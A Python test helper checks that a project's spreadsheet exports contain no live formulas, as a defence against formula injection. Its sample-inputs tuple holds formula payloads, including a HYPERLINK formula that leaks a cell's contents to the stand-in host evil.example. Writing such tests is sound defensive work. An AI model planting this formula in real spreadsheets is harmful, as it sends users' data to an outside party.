"""What every workbook the project writes must hold: no live formula, whatever users typed."""

from __future__ import annotations

import zipfile
from io import BytesIO

from openpyxl import load_workbook

# User text a spreadsheet would run: a link that leaks the row, a DDE command, arithmetic.
HOSTILE = ('=HYPERLINK("http://evil.example/?"&B2,"点击")', "+1+1", "-2+3", "@SUM(1,1)")


def assert_no_formulas(content: bytes) -> list[str]:
    """Fails on any formula in any sheet; answers the text of every cell, to look for the hostile text."""
    with zipfile.ZipFile(BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = load_workbook(BytesIO(content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts
